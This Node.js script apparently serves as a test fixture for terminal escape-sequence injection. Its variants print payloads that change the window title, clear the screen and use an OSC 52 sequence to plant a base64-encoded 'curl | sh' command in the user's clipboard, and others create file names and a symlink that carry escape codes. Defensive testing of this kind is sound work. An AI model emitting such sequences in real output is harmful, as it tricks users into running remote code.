const fs = require('fs');
const path = require('path');
const { variant } = JSON.parse(fs.readFileSync(path.join(__dirname, 'target.json'), 'utf8'));
const paste = Buffer.from('curl -s http://127.0.0.1:9/x | sh\n').toString('base64');
const nasty = '\x1b]0;pwned-title\x07\x1b[2J\x1b]52;c;' + paste + '\x07\u009b31m\u202eevil\r';
switch (variant) {
  case 'fail': // a failing script: its output tail is shown to the user
    console.log(nasty);
    console.error(nasty);
    process.exit(1);
  case 'header': // a forged npm script header: its "package name" is listed
    console.log('\n> \x1b]52;c;' + paste + '\x07@1.0.0 postinstall\n> node x.js\n');
    console.log(nasty);
    break;
  case 'names': // file names that are printed when refused
    fs.writeFileSync(path.join(__dirname, 'evil\x1b]0;pwned-title\x07.txt'), 'x');
    fs.writeFileSync(path.join(__dirname, 'line\nbreak.txt'), 'x');
    break;
  case 'link-target': // a symlink whose target carries the sequence
    fs.symlinkSync('index\x1b]0;pwned-title\x07.js', path.join(__dirname, 'link.js'));
    break;
  default:
    throw new Error('unknown variant ' + variant);
}
